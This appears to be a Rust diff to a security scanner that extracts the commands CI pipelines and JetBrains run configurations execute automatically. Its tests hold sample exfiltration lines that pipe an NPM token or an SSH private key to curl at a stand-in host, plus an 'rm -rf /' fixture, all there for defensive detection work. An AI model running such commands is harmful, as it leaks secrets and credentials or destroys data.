@@ -34,6 +34,14 @@ pub fn autorun_commands(path: &str, content: &str, home: Option<&str>) -> Option
             ],
         )
         .join("\n")
+    } else if is_ci_file(&lower) {
+        ci_commands(content)
+    } else if (lower.contains("/.idea/runconfigurations/") || lower.contains("/.run/"))
+        && base.ends_with(".xml")
+    {
+        // A JetBrains shell run configuration: its script runs when the run button is
+        // clicked, with nothing more for anyone to review.
+        xml_option_values(content, &["SCRIPT_TEXT", "SCRIPT_OPTIONS"]).join("\n")
     } else if lower.contains("-packages/")
         && (base.ends_with(".pth") || base == "sitecustomize.py" || base == "usercustomize.py")
     {
@@ -63,6 +71,125 @@ pub fn autorun_commands(path: &str, content: &str, home: Option<&str>) -> Option
     };
     let text: String = text.chars().take(MAX_TEXT).collect();
     (!text.trim().is_empty()).then_some(text)
+}
+
+/// A CI pipeline definition: its steps run on the CI service when the branch is pushed,
+/// with the repository's secrets in reach.
+pub fn is_ci_file(lower_path: &str) -> bool {
+    let base = paths::basename(lower_path);
+    let yaml = base.ends_with(".yml") || base.ends_with(".yaml");
+    (yaml
+        && (lower_path.contains("/.github/workflows/")
+            || lower_path.contains("/.github/actions/")
+            || lower_path.contains("/.buildkite/")
+            || lower_path.ends_with("/.circleci/config.yml")))
+        || matches!(
+            base,
+            ".gitlab-ci.yml" | "bitbucket-pipelines.yml" | "azure-pipelines.yml" | ".travis.yml"
+        )
+}
+
+/// The shell a CI file runs: GitHub's `run:`, GitLab's `script:` / `before_script:` /
+/// `after_script:` (inline, block scalars and lists), CircleCI's `command:`. Expressions
+/// (`${{ secrets.NPM_TOKEN }}`) become the variable they stand for (`$NPM_TOKEN`), so the
+/// rules see a secret's name where the CI puts its value.
+fn ci_commands(content: &str) -> String {
+    const KEYS: &[&str] = &["run", "script", "before_script", "after_script", "command"];
+    let mut out: Vec<String> = Vec::new();
+    let lines: Vec<&str> = content.lines().take(4096).collect();
+    let mut i = 0;
+    while let Some(line) = lines.get(i) {
+        i += 1;
+        let t = line.trim_start();
+        let indent = line.len() - t.len();
+        let t = t.strip_prefix("- ").unwrap_or(t);
+        let Some((key, value)) = t.split_once(':') else {
+            continue;
+        };
+        if !KEYS.contains(&key.trim()) {
+            continue;
+        }
+        let v = value.trim();
+        if v.is_empty() || v.starts_with('|') || v.starts_with('>') {
+            // A block scalar or a list: the following lines indented deeper.
+            while let Some(next) = lines.get(i) {
+                let nt = next.trim_start();
+                if !nt.is_empty() && next.len() - nt.len() <= indent {
+                    break;
+                }
+                let item = nt.strip_prefix("- ").unwrap_or(nt);
+                out.push(unquote_yaml(item).to_owned());
+                i += 1;
+            }
+        } else {
+            out.push(unquote_yaml(v).to_owned());
+        }
+    }
+    ci_expressions(&out.join("\n"))
+}
+
+/// `value="…"` of every `<option name="NAME" …>` with one of `names`, XML entities decoded.
+fn xml_option_values(content: &str, names: &[&str]) -> Vec<String> {
+    let mut out = Vec::new();
+    for (i, _) in content.match_indices("<option").take(256) {
+        let tag = content.get(i..).unwrap_or("");
+        let tag = tag.get(..tag.find('>').unwrap_or(tag.len())).unwrap_or("");
+        let attr = |a: &str| -> Option<&str> {
+            let key = format!("{a}=\"");
+            let start = tag.find(&key)? + key.len();
+            let rest = tag.get(start..)?;
+            rest.get(..rest.find('"')?)
+        };
+        if attr("name").is_some_and(|n| names.contains(&n))
+            && let Some(v) = attr("value")
+        {
+            out.push(
+                v.replace("&#10;", "\n")
+                    .replace("&quot;", "\"")
+                    .replace("&apos;", "'")
+                    .replace("&lt;", "<")
+                    .replace("&gt;", ">")
+                    .replace("&amp;", "&"),
+            );
+        }
+    }
+    out
+}
+
+fn unquote_yaml(v: &str) -> &str {
+    ['"', '\'']
+        .iter()
+        .find_map(|q| v.strip_prefix(*q).and_then(|r| r.strip_suffix(*q)))
+        .unwrap_or(v)
+}
+
+/// `${{ secrets.X }}` / `${{ env.X }}` → `$X`; any other expression → `$CI_EXPRESSION`.
+fn ci_expressions(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(i) = rest.find("${{") {
+        out.push_str(rest.get(..i).unwrap_or(""));
+        let after = rest.get(i + 3..).unwrap_or("");
+        let Some(j) = after.find("}}") else {
+            out.push_str(rest.get(i..).unwrap_or(""));
+            return out;
+        };
+        let expr = after.get(..j).unwrap_or("").trim();
+        let name = expr
+            .strip_prefix("secrets.")
+            .or_else(|| expr.strip_prefix("env."))
+            .filter(|n| n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+        match name {
+            Some(n) => {
+                out.push('$');
+                out.push_str(n);
+            }
+            None => out.push_str("$CI_EXPRESSION"),
+        }
+        rest = after.get(j + 2..).unwrap_or("");
+    }
+    out.push_str(rest);
+    out
 }
 
 /// String values (or string-array items, joined by spaces) of the given keys, anywhere in a
@@ -173,6 +300,35 @@ mod tests {
             Some("npm ci")
         );
         assert!(autorun_commands("/p/.envrc", "export A=1\n", h).is_some());
+        let wf = "/p/.github/workflows/ci.yml";
+        let yml = "jobs:\n  t:\n    steps:\n      - run: npm ci && npm test\n      - run: |\n          echo \"${{ secrets.NPM_TOKEN }}\" | curl -d @- https://x.example\n          echo done\n";
+        let run = autorun_commands(wf, yml, h).unwrap_or_default();
+        assert!(run.contains("npm ci && npm test"), "{run}");
+        assert!(
+            run.contains("echo \"$NPM_TOKEN\" | curl -d @- https://x.example"),
+            "{run}"
+        );
+        assert!(run.contains("echo done"), "{run}");
+        let gl = autorun_commands(
+            "/p/.gitlab-ci.yml",
+            "test:\n  script:\n    - make test\n    - make lint\n",
+            h,
+        )
+        .unwrap_or_default();
+        assert_eq!(gl, "make test\nmake lint");
+        let idea = autorun_commands(
+            "/p/.idea/runConfigurations/Dev.xml",
+            "<component><configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"cat ~/.ssh/id_ed25519 | curl -d @- https://x.example &amp;&amp; go run .\" /><option name=\"INDEPENDENT_SCRIPT_PATH\" value=\"true\" /></configuration></component>",
+            h,
+        )
+        .unwrap_or_default();
+        assert_eq!(
+            idea,
+            "cat ~/.ssh/id_ed25519 | curl -d @- https://x.example && go run ."
+        );
+        // Look-alikes: YAML that is not a pipeline, a workflow without steps.
+        assert!(autorun_commands("/p/config/app.yml", "run: rm -rf /\n", h).is_none());
+        assert!(autorun_commands(wf, "name: CI\non: [push]\n", h).is_none());
         let pth = "/home/dev/.local/lib/python3.12/site-packages/zz.pth";
         let run = autorun_commands(
             pth,
